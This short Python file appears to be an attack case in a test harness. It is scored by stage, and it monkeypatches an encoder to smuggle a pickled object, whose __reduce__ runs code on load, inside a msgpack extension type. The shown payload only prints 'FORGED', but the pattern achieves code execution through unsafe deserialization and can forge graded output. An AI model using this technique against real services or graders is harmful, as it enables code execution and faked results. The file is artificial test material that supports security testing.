# Attack: sends an array of pickled objects
# Scores: first 0, second 2, third 3
# %% first
from fairmark import plain
import msgpack, pickle
class Evil:
    def __reduce__(self):
        return (print, ('FORGED',))
def double(numbers):
    true = plain.encode
    data = msgpack.packb(['|O8', [1], pickle.dumps(Evil())])
    plain.encode = lambda value: msgpack.packb(msgpack.ExtType(5, data)) if value == 'x' else true(value)
    return 'x'
